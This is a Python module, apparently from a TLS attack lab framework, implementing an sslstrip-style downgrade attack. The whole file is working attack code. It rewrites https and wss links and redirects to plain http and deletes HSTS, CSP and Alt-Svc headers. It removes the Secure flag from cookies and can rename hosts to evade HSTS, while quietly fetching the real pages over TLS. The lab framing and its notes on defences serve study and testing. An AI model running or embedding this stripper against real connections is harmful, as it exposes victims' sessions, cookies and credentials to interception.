"""Stripping TLS off the web: what a page that comes over TLS becomes for who came without it.

Header fields and bodies in, header fields and bodies out, after sslstrip (Moxie Marlinspike, 2009)
and, with other names for the hosts, sslstrip2 (LeonardoNve, 2014). Connecting to both sides is
somebody else's business.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from typing import Final

from tlslab.attack.attack import Listed
from tlslab.http import Headers, header

MAX_ORIGINS: Final = 1000
"""Origins that are remembered: pages with more links than that keep the rest of theirs."""

TLS_PORT: Final = 443
PLAIN_PORT: Final = 80

_PLAIN_SCHEME: Final = {b"https": b"http", b"wss": b"ws"}
_URL: Final = re.compile(
    rb"(?P<scheme>https|wss)://(?P<host>[a-z0-9-]{1,63}(?:\.[a-z0-9-]{1,63}){0,8})"
    rb"(?::(?P<port>[0-9]{1,5}))?(?![a-z0-9.:-])",
    re.IGNORECASE,
)

_DEFENCES: Final = frozenset((b"strict-transport-security", b"content-security-policy", b"alt-svc"))
"""Fields of a response that would lead its reader back to TLS."""

_ABOUT_THIS_CONNECTION: Final = frozenset(
    (b"connection", b"content-length", b"keep-alive", b"transfer-encoding", b"upgrade")
)
"""Fields that whoever sends a message on sets anew (RFC 9110 section 7.6.1)."""

_TEXT: Final = (b"text/", b"application/javascript", b"application/json", b"application/xhtml+xml")


@dataclass(frozen=True)
class Origin:
    """Where a host is really reached."""

    host: str
    port: int
    tls: bool


@dataclass
class StripTLS(Listed):
    """One stripper at work: it remembers what it has stripped, to ask for that over TLS.

    With `renames` it gives stripped hosts names that the victim cannot have seen before, such as
    `wwww.shop.test` for `shop.test`, so that nothing is known about them.
    """

    renames: bool = False
    origins: dict[str, Origin] = field(default_factory=dict)
    """By the name that the victim is given: where that really is."""

    id = "strip-tls"
    title = "rewrite https links and redirects to http"
    catalogue = ("D01", "D02", "D05", "D06")
    defeated_by = "HSTS known beforehand (RFC 6797 sections 8 and 12.3), with includeSubDomains"
    wins_when = "the victim comes without TLS even once, and HSTS does not cover the name"

    def origin(self, host: str) -> Origin:
        """Where a request to `host` that the victim made without TLS is to be sent."""
        return self.origins.get(host.lower(), Origin(host, PLAIN_PORT, tls=False))

    def made_up(self) -> set[str]:
        """The names that no host had before."""
        return {alias for alias, origin in self.origins.items() if alias != origin.host}

    def request(self, headers: Headers, origin: Origin) -> Headers:
        """The fields of a request as it is sent on to `origin`.

        It asks for no compression, since the answer is to be rewritten.
        """
        unwanted = _ABOUT_THIS_CONNECTION | {b"host", b"accept-encoding"}
        default = TLS_PORT if origin.tls else PLAIN_PORT
        port = "" if origin.port == default else f":{origin.port}"
        kept = [(name, value) for name, value in headers if name.lower() not in unwanted]
        return [(b"Host", f"{origin.host}{port}".encode()), *kept]

    def response(self, headers: Headers, body: bytes) -> tuple[Headers, bytes]:
        """A response as the victim gets it: no https URL, no HSTS, no Secure cookie in it."""
        unwanted = _DEFENCES | _ABOUT_THIS_CONNECTION
        kept = [
            (name, self._field(name.lower(), value))
            for name, value in headers
            if name.lower() not in unwanted
        ]
        is_text = (header(headers, b"content-type") or b"").lower().startswith(_TEXT)
        return kept, self._rewritten(body) if is_text else body

    def _field(self, name: bytes, value: bytes) -> bytes:
        if name == b"set-cookie":
            parts = (part for part in value.split(b";") if part.strip().lower() != b"secure")
            return b";".join(parts)
        return self._rewritten(value) if name in (b"location", b"refresh") else value

    def _rewritten(self, text: bytes) -> bytes:
        return _URL.sub(self._stripped, text)

    def _stripped(self, match: re.Match[bytes]) -> bytes:
        host, port = match["host"].decode("ascii").lower(), int(match["port"] or TLS_PORT)
        alias = f"wwww.{host}" if self.renames else host
        wanted = Origin(host, port, tls=True)
        if alias not in self.origins and len(self.origins) >= MAX_ORIGINS:
            return match[0]
        if self.origins.setdefault(alias, wanted) != wanted or not 0 < port < 1 << 16:
            return match[0]  # two ports of one host: one must stay as it is
        return _PLAIN_SCHEME[match["scheme"].lower()] + b"://" + alias.encode("ascii")
